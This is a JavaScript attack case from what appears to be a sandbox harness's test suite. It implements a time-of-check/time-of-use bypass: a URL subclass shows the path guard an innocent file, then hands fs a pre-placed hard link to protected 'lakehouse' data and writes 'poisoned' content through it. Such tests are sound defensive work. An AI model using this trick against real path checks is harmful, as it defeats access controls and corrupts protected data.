/* @attack {"title": "TOCTOU in the path itself: a URL subclass whose pathname answers the guard with an innocent file and fs with the pre-placed hard link to the lakehouse", "setup": ["hardlink-to-lakehouse"]} */
import fs from 'node:fs';
const dir = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${dir}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
let reads = 0;
class TwoFaced extends URL {
  get pathname() {
    reads++;
    return reads === 1 ? `${dir}/innocent.txt` : `${dir}/hard.csv`;
  }
}
try {
  try {
    fs.writeFileSync(new TwoFaced(`file://${dir}/innocent.txt`), 'poisoned through a two-faced URL\n');
  } finally {
    // What the trick must not amount to: the plain write, which must be refused.
    fs.writeFileSync(`${dir}/hard.csv`, 'poisoned directly\n');
  }
} finally {
  // The harness's own hard link raised AAPL.csv's link count, which its snapshot records: drop it.
  fs.rmSync(`${dir}/hard.csv`, { force: true });
}
